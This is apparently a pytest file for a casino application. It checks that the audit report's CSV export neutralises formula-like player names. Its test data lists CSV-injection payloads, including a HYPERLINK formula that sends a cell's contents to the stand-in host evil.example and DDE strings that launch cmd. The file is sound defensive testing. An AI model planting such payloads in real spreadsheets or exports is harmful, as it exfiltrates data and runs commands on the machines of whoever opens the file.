"""The audit's CSV export never hands a spreadsheet a formula (issue 18, item 3).

Players named like formulas go through the real path: the cage, the audit service, and
``GET /api/v1/gaming-days/{day}/report?format=csv`` as the auditor downloads it. Their names
come back prefixed with ``'`` (shown as text); numbers, negative ones included, stay numbers.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from typing import Any

import pytest

from casino.csv_safety import spreadsheet_safe
from casino.models import User
from casino.services import buy_in, cash_out, create_player
from ledger.gaming_day import gaming_day_for
from tables.audit.models import AuditReport
from tables.audit.services import run_audit
from tests.factories import PASSWORD

pytestmark = pytest.mark.django_db

EVIL_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("name", EVIL_NAMES)
def test_text_that_a_spreadsheet_would_run_is_quoted(name: str) -> None:
    assert spreadsheet_safe(name) == "'" + name


@pytest.mark.parametrize("value", [-500, 0, 42, 12.5, -0.25, "Wyatt Earp", "", "a=b", "500", None])
def test_numbers_and_plain_text_are_left_alone(value: Any) -> None:
    assert spreadsheet_safe(value) == value


def _files(archive: bytes, day: dt.date) -> dict[str, list[dict[str, str]]]:
    with zipfile.ZipFile(io.BytesIO(archive)) as files:
        return {
            name.rsplit("/", 1)[-1]: list(csv.DictReader(io.StringIO(files.read(name).decode(), newline="")))
            for name in files.namelist()
        }


def test_the_audit_csv_export_neutralises_formula_names(cashier: User, auditor: User, login: Any) -> None:
    day = gaming_day_for()
    players = []
    for number, name in enumerate(EVIL_NAMES):
        player = create_player(actor=cashier, username=f"formula{number}", password=PASSWORD, name=name)
        buy_in(actor=cashier, player=player, amount=400_000)  # over the MTL threshold: mtl.csv too
        cash_out(actor=cashier, player=player, amount=1_500)
        players.append(player)
    report = AuditReport.objects.create(
        gaming_day=day, requested_at=dt.datetime.now(tz=dt.UTC), requested_by=auditor, forced=True
    )
    run_audit(report_id=report.pk)

    response = login(auditor).get(f"/api/v1/gaming-days/{day}/report", {"format": "csv"})

    assert response.status_code == 200, response.content
    files = _files(response.content, day)
    by_id = {int(row["id"]): row for row in files["players.csv"]}
    for player, name in zip(players, EVIL_NAMES, strict=True):
        row = by_id[player.pk]
        assert row["name"] == "'" + name
        assert (row["cash_in_cents"], row["cash_out_cents"]) == ("400000", "1500")
    mtl_names = {row["name"] for row in files["mtl.csv"]}
    assert mtl_names == {"'" + name for name in EVIL_NAMES}
    for file_rows in files.values():
        for row in file_rows:
            for cell in row.values():
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
    # A negative amount is still a number, not text: the cage issued the chips.
    cage = next(row for row in files["trial_balance.csv"] if row["purpose"] == "cage")
    assert int(cage["balance_cents"]) < 0
